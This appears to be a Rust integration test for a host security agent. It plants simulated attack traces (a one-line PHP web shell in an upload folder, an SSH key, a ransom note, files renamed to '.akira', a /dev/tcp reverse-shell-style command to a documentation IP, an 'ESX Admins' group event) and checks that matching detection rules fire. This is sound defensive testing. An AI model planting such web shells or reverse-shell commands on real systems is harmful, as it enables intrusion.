//! What is done to the host becomes an event, and the rule for it hits: on the real binary.

#[path = "../../../inputs/src/evtx/tests/file.rs"]
mod evtx_file;

use std::collections::HashSet;
use std::fs;
use std::process::{Command, Stdio};

use agent_spool::{LANE_ALERTS, LANE_EVENTS};
use rules_event::{Event, field};
use serde_json::json;

use crate::agent::{Site, until};

/// A certificate whose day has long passed.
const EXPIRED: &str = include_str!("../../../inputs/src/inventory/certificates/expired.pem");

/// Returns the id of a shipped rule.
fn id(name: &str) -> String {
    let wanted = format!("\nname: {name}\n");
    let (_, text) = rules_pack::shipped()
        .iter()
        .find(|(_, text)| text.contains(&wanted))
        .unwrap_or_else(|| panic!("no rule {name}"));
    let line = text.lines().find_map(|line| line.strip_prefix("id: ")).unwrap();
    line.trim().to_owned()
}

fn events(site: &Site) -> Vec<Event> {
    let records = [LANE_ALERTS, LANE_EVENTS].into_iter().flat_map(|lane| site.records(lane));
    records.flat_map(|record| record.events().unwrap()).collect()
}

fn hit(site: &Site) -> HashSet<String> {
    let events = events(site);
    events
        .iter()
        .flat_map(|event| event.rule_ids().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

#[test]
fn what_is_done_to_the_host_is_hit_by_the_rule_for_it() {
    let site = Site::new();
    let top = site.dir.path().join("srv");
    for folder in ["www/uploads", "www/html", "home/lan/.ssh", "data", "evtx"] {
        fs::create_dir_all(top.join(folder)).unwrap();
    }
    for number in 0..20 {
        fs::write(top.join(format!("data/{number}.docx")), "text").unwrap();
    }
    fs::write(top.join("site.pem"), EXPIRED).unwrap();
    let place = top.display();
    site.configure(&format!(
        "[input.integrity]\nenabled = true\npaths = [\"{place}\"]\nupload_folders = [\"{place}/www/uploads\"]\n\
         mass_changes_per_min = 15\n[input.process]\nenabled = true\n\
         [input.inventory]\nenabled = true\ncertificates = [\"{place}/*.pem\"]\nskip = [\"package\"]\n\
         [input.evtx]\npaths = [\"{place}/evtx/*.evtx\"]\ninterval_s = 1"
    ));
    let agent = site.start();
    let known = |event: &Event| event.get_str(field::EVENT_ACTION) == Some("baseline");
    until("the baseline", || events(&site).iter().any(known));
    let watched = |event: &Event| event.get_str(field::EVENT_ACTION) == Some("process_watch");
    until("the watch of processes", || events(&site).iter().any(watched));

    fs::write(top.join("www/uploads/shell.php"), "<?php system($_GET[\'c\']); ?> and so on and on")
        .unwrap();
    fs::write(top.join("www/html/index.php"), "<?php echo 1; ?>").unwrap();
    fs::write(top.join("home/lan/.ssh/authorized_keys"), "ssh-ed25519 AAAA x").unwrap();
    fs::write(top.join("data/how_to_decrypt.txt"), "pay").unwrap();
    for number in 0..20 {
        let path = top.join(format!("data/{number}.docx"));
        fs::rename(&path, top.join(format!("data/{number}.docx.akira"))).unwrap();
    }
    let mut shell = Command::new("sh");
    shell.args(["-c", "read x; : /dev/tcp/203.0.113.9/4444"]).stdin(Stdio::piped());
    let mut child = shell.spawn().unwrap();
    let group = json!({ "Event": {
        "System": {
            "Provider": { "#attributes": { "Name": "Microsoft-Windows-Security-Auditing" } },
            "EventID": "4727", "Channel": "Security", "Computer": "dc-1", "EventRecordID": "9",
            "TimeCreated": { "#attributes": { "SystemTime": "2026-11-26T01:00:00Z" } }
        },
        "EventData": { "TargetUserName": "ESX Admins", "SubjectUserName": "lan" }
    } });
    let log = top.join("evtx/dc.evtx");
    fs::write(&log, evtx_file::write([(9, group)].into_iter())).unwrap();

    for rule in [
        "web_script_in_upload_folder",
        "web_entry_file_changed",
        "login_or_privilege_file_changed",
        "ransom_note_written",
        "file_renamed_to_new_suffix",
        "reverse_shell",
        "certificate_expires",
        "ad_esx_admins_group",
    ] {
        let id = id(rule);
        until(rule, || hit(&site).contains(&id));
    }
    until("the mass change", || {
        events(&site).iter().any(|event| event.get_str(field::EVENT_ACTION) == Some("mass_change"))
    });
    drop(child.stdin.take());
    child.wait().unwrap();
    assert_eq!(agent.stop(), 0);

    // A responder looks at the same file by hand.
    let answer = Command::new(env!("CARGO_BIN_EXE_vonglau-agent"))
        .args(["examine", log.to_str().unwrap()])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&answer.stderr).into_owned();
    assert!(said.contains("1 records, 1 hit by rules, 0 damaged"), "{said}");
    let event: serde_json::Value = serde_json::from_slice(&answer.stdout).unwrap();
    assert_eq!(event["winlog.event_data.TargetUserName"], "ESX Admins");
}

#[test]
fn a_kill_at_any_moment_neither_loses_nor_repeats_a_change() {
    let site = Site::new();
    let top = site.dir.path().join("srv");
    fs::create_dir_all(&top).unwrap();
    site.configure(&format!(
        "[input.integrity]\nenabled = true\npaths = [\"{}\"]\ninterval_s = 10",
        top.display()
    ));
    let known = |event: &Event| event.get_str(field::EVENT_ACTION) == Some("baseline");
    let mut agent = site.start();
    until("the baseline", || events(&site).iter().any(known));
    let mut number = 0;
    for round in 0..6 {
        for _ in 0..20 {
            number += 1;
            fs::write(top.join(format!("{number}.txt")), number.to_string()).unwrap();
        }
        // At another moment each time: between hint, look, state, spool.
        let moment = std::time::Instant::now();
        until("the moment", || moment.elapsed().as_millis() >= 150 * round);
        agent.kill();
        agent = site.start();
    }
    let created = || {
        let events = events(&site);
        let created =
            events.iter().filter(|event| event.get_str(field::EVENT_ACTION) == Some("created"));
        created.map(|event| event.get_str(field::FILE_PATH).unwrap().to_owned()).collect::<Vec<_>>()
    };
    let all: HashSet<String> = (1..=number)
        .map(|number| top.join(format!("{number}.txt")).display().to_string())
        .collect();
    until("every file", || created().into_iter().collect::<HashSet<_>>() == all);
    assert_eq!(agent.stop(), 0);
    assert_eq!(created().len(), all.len(), "told once each");
}
